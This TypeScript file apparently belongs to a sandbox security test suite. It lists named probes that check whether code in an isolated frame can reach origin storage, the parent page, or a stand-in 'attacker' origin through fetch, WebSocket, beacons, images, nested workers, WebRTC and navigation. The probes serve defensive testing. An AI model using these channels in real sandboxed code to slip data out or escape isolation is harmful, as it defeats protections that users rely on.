/**
 * Ways out of the sandbox, by name. Each is the body of an async function of `attacker` and `app` (origins) that ends with
 * a truthy value when it got what it was after; those of the network also show at the attacker, under their name.
 */
export const PROBES = {
  // storage of the page's origin
  'indexedDB.open': `return await new Promise((resolve, reject) => {
    const request = indexedDB.open('probe');
    request.onsuccess = () => resolve('opened');
    request.onerror = () => reject(request.error);
  })`,
  'indexedDB.databases': `return Array.isArray(await indexedDB.databases())`,
  localStorage: `localStorage.setItem('probe', 'x'); return localStorage.getItem('probe')`,
  'document.cookie': `document.cookie = 'probe=1'; return document.cookie.includes('probe')`,
  // WebKit gives an opaque origin a store of its own
  'cache storage': `return await caches.has('of the page')`,
  'origin private file system': `return Boolean(await navigator.storage.getDirectory())`,
  'storage buckets': `return Boolean(await navigator.storageBuckets.open('probe'))`,
  'web locks': `return await navigator.locks.request('probe', () => 'held')`,
  'service workers': `return Boolean(await navigator.serviceWorker.register(app + '/a/b/service-worker.js'))`,
  'the app’s files': `return (await fetch(app + '/a/b/sandbox-frame.html')).ok`,
  // the page
  'the page’s document': `return typeof parent !== 'undefined' && parent.document.readyState`,
  'opener and top': `return Boolean(top.location.href)`,
  // network
  fetch: `return (await fetch(attacker + '/fetch')).ok`,
  'fetch no-cors': `return (await fetch(attacker + '/fetch-no-cors', { mode: 'no-cors' })).type`,
  'fetch keepalive': `return (await fetch(attacker + '/fetch-keepalive', { keepalive: true })).ok`,
  'synchronous XMLHttpRequest': `const request = new XMLHttpRequest();
    request.open('GET', attacker + '/synchronous-XMLHttpRequest', false);
    request.send();
    return request.status`,
  WebSocket: `return await new Promise((resolve, reject) => {
    const socket = new WebSocket(attacker.replace('http', 'ws') + '/WebSocket');
    socket.onopen = resolve;
    socket.onerror = () => reject(new Error('error'));
  })`,
  EventSource: `return await new Promise((resolve, reject) => {
    const source = new EventSource(attacker + '/EventSource');
    source.onopen = () => resolve('open');
    source.onerror = () => reject(new Error('error'));
  })`,
  WebTransport: `const transport = new WebTransport(attacker.replace('http:', 'https:') + '/WebTransport');
    for (const promise of [transport.closed, transport.draining]) promise?.catch(() => {});
    await transport.ready;
    return 'ready'`,
  import: `return Boolean(await import(attacker + '/import'))`,
  importScripts: `importScripts(attacker + '/importScripts'); return 'imported'`,
  FontFace: `await new FontFace('probe', 'url(' + attacker + '/FontFace)').load(); return 'loaded'`,
  'worker from the network': `return await new Promise((resolve, reject) => {
    const worker = new Worker(attacker + '/worker-from-the-network');
    worker.onmessage = () => resolve('ran');
    worker.onerror = () => reject(new Error('error'));
  })`,
  'nested blob worker': `return await new Promise((resolve, reject) => {
    const text = 'fetch("' + attacker + '/nested-blob-worker").then(() => postMessage("reached"), () => postMessage(""))';
    const worker = new Worker(URL.createObjectURL(new Blob([text])));
    worker.onmessage = (event) => resolve(event.data);
    worker.onerror = () => reject(new Error('error'));
  })`,
  'nested data worker': `return await new Promise((resolve, reject) => {
    const text = 'fetch("' + attacker + '/nested-data-worker").then(() => postMessage("reached"), () => postMessage(""))';
    const worker = new Worker('data:text/javascript,' + encodeURIComponent(text));
    worker.onmessage = (event) => resolve(event.data);
    worker.onerror = () => reject(new Error('error'));
  })`,
  compileStreaming: `await WebAssembly.compileStreaming(fetch(attacker + '/compileStreaming')); return 'compiled'`,
  sendBeacon: `return navigator.sendBeacon(attacker + '/sendBeacon')`,
  image: `const image = new Image(); image.src = attacker + '/image'; return 'asked'`,
  RTCPeerConnection: `const connection = new RTCPeerConnection({ iceServers: [{ urls: attacker.replace('http://', 'stun:') }] });
    connection.createDataChannel('probe');
    await connection.setLocalDescription(await connection.createOffer());
    await new Promise((resolve) => setTimeout(resolve, 500));
    return 'gathering'`,
  // navigation, which no connect-src stops
  'new window': `return Boolean(open(attacker + '/new-window'))`,
  'frame navigation': `const frame = document.createElement('iframe');
    frame.src = attacker + '/frame-navigation';
    document.body.append(frame);
    return 'navigated'`,
  'own navigation': `if (typeof document !== 'undefined') return 'possible';
    location.href = attacker + '/own-navigation';
    return ''`,
} as const;

export type ProbeName = keyof typeof PROBES;

/**
 * Those that an ordinary page lets through, by the attacker's log; the path is the name with dashes. RTCPeerConnection and
 * WebTransport show there as datagrams, and a worker from another origin is refused everywhere.
 */
export const NETWORK_PROBES: readonly ProbeName[] = [
  'fetch',
  'fetch no-cors',
  'fetch keepalive',
  'synchronous XMLHttpRequest',
  'WebSocket',
  'EventSource',
  'import',
  'FontFace',
  'nested blob worker',
  'nested data worker',
  'compileStreaming',
  'sendBeacon',
  'image',
  'new window',
  'frame navigation',
];

export const PROBE_NAMES = Object.keys(PROBES) as ProbeName[];

/** JavaScript that runs one probe; its value is a promise of the outcome: `reached`, `nothing`, `late` or an error. */
export function probeScript(name: ProbeName, attacker: string, app: string): string {
  return `(async () => {
    const probe = async (attacker, app) => { ${PROBES[name]} };
    const late = new Promise((resolve) => setTimeout(() => resolve('late'), 1500));
    try {
      const outcome = await Promise.race([probe(${JSON.stringify(attacker)}, ${JSON.stringify(app)}), late]);
      return outcome === 'late' ? 'late' : outcome ? 'reached' : 'nothing';
    } catch (error) {
      return String(error);
    }
  })()`;
}
